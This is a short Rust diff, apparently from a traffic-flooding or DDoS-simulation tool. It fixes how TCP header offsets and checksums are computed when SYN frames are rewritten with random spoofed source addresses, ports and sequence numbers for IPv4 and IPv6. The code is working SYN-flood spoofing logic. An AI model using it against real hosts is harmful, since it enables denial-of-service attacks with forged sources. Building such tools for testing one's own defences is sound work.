@@ -19,7 +19,8 @@ const BATCH: usize = 256;
 /// A flood that nobody ends, ends.
 const LONGEST_S: u64 = 600;
 const ETHERNET: usize = 14;
-const TCP_LENGTH: usize = 20;
+const V4_LENGTH: usize = 20;
+const V6_LENGTH: usize = 40;
 const V4_SOURCE: usize = ETHERNET + 12;
 const V4_CHECKSUM: usize = ETHERNET + 10;
 const V6_SOURCE: usize = ETHERNET + 8;
@@ -113,7 +114,7 @@ fn template(envelope: Envelope, target: SocketAddr) -> anyhow::Result<Vec<u8>> {
 /// Gives a SYN another source, port and sequence number, with right checksums: those of an attacker are right too.
 fn disguise(frame: &mut [u8], dice: &mut Dice) {
     let v6 = frame.get(ETHERNET).is_some_and(|first| first >> 4 == 6);
-    let tcp = frame.len() - TCP_LENGTH;
+    let tcp = ETHERNET + if v6 { V6_LENGTH } else { V4_LENGTH };
     let (high, low) = (dice.roll().to_be_bytes(), dice.roll().to_be_bytes());
     if v6 {
         frame[V6_SOURCE..V6_SOURCE + 8].copy_from_slice(&high);
@@ -134,7 +135,7 @@ fn disguise(frame: &mut [u8], dice: &mut Dice) {
     frame[tcp + 4..tcp + 8].copy_from_slice(&numbers[2..6]);
     frame[tcp + 16..tcp + 18].fill(0);
     let addresses = if v6 { &frame[V6_SOURCE..V6_SOURCE + 32] } else { &frame[V4_SOURCE..V4_SOURCE + 8] };
-    let pseudo = checksum::sum(addresses) + 6 + TCP_LENGTH as u64;
+    let pseudo = checksum::sum(addresses) + 6 + (frame.len() - tcp) as u64;
     let sum = checksum::of(&frame[tcp..], pseudo);
     frame[tcp + 16..tcp + 18].copy_from_slice(&sum.to_be_bytes());
 }
